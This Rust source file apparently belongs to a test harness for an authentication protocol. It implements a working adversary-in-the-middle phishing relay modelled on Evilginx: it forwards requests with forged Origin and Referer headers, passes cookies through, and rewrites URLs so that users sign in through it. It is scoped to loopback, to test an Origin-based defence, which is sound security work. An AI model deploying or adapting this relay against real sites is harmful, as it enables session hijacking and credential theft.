//! A relaying phishing proxy (the real-time "adversary in the middle" of kits such as
//! Evilginx): it serves the sign-in pages at its own origin, passes every request on to the
//! real server as if it were the browser (its `Origin` and `Referer` rewritten to the real
//! server's, the cookies passed through), and rewrites the server's URLs in what comes back.
//! Number matching cannot tell it from the real site: the user sees the real number. What it
//! cannot rewrite is the `Origin` header the victim's browser sends elsewhere (PROTOCOL.md
//! §5.9).
use anyhow::Result;
use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderMap, HeaderName, Method, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use axum::Router;

#[derive(Clone)]
struct Relay {
    /// `http://127.0.0.1:A` (no trailing slash).
    upstream: String,
    /// `http://localhost:B` (no trailing slash).
    own: String,
    client: reqwest::Client,
}

pub struct RelayingProxy {
    /// `http://localhost:B/`: another host than the server's `127.0.0.1`, so the browser
    /// keeps its cookies apart, as it would for a look-alike domain.
    pub base_url: String,
    /// `http://localhost:B`, the origin the victim's browser is at.
    pub origin: String,
    task: tokio::task::JoinHandle<()>,
}

impl RelayingProxy {
    /// Relays to `upstream_base` (`http://127.0.0.1:A/`) from a fresh loopback port.
    pub async fn start(upstream_base: &str) -> Result<Self> {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let origin = format!("http://localhost:{port}");
        let relay = Relay {
            upstream: upstream_base.trim_end_matches('/').to_owned(),
            own: origin.clone(),
            // Redirects go back to the victim's browser, rewritten; the relay follows none.
            client: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()?,
        };
        let app = Router::new().fallback(relay_request).with_state(relay);
        let task = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Ok(RelayingProxy {
            base_url: format!("{origin}/"),
            origin,
            task,
        })
    }
}

impl Drop for RelayingProxy {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// Hop-by-hop headers and those the client library sets itself.
fn passed_on(name: &HeaderName) -> bool {
    !matches!(
        name.as_str(),
        "host" | "connection" | "content-length" | "transfer-encoding" | "keep-alive" | "upgrade"
    )
}

async fn relay_request(
    State(relay): State<Relay>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let path = uri.path_and_query().map_or("/", |p| p.as_str());
    let mut request = relay.client.request(
        reqwest::Method::from_bytes(method.as_str().as_bytes()).expect("method"),
        format!("{}{path}", relay.upstream),
    );
    for (name, value) in &headers {
        if !passed_on(name) {
            continue;
        }
        let Ok(text) = value.to_str() else { continue };
        // Toward the server, the relay is the browser at the server's own origin.
        request = request.header(name.as_str(), text.replace(&relay.own, &relay.upstream));
    }
    let upstream = match request.body(body.to_vec()).send().await {
        Ok(r) => r,
        Err(_) => return StatusCode::BAD_GATEWAY.into_response(),
    };
    let status = upstream.status().as_u16();
    let mut response = Response::builder().status(status);
    for (name, value) in upstream.headers() {
        if !passed_on(&HeaderName::from_bytes(name.as_str().as_bytes()).expect("name")) {
            continue;
        }
        let Ok(text) = value.to_str() else { continue };
        response = response.header(name.as_str(), text.replace(&relay.upstream, &relay.own));
    }
    let bytes = upstream.bytes().await.unwrap_or_default();
    // The pages' absolute URLs point back at the relay.
    let body = match std::str::from_utf8(&bytes) {
        Ok(text) => Body::from(text.replace(&relay.upstream, &relay.own)),
        Err(_) => Body::from(bytes),
    };
    response
        .body(body)
        .unwrap_or_else(|_| StatusCode::BAD_GATEWAY.into_response())
}
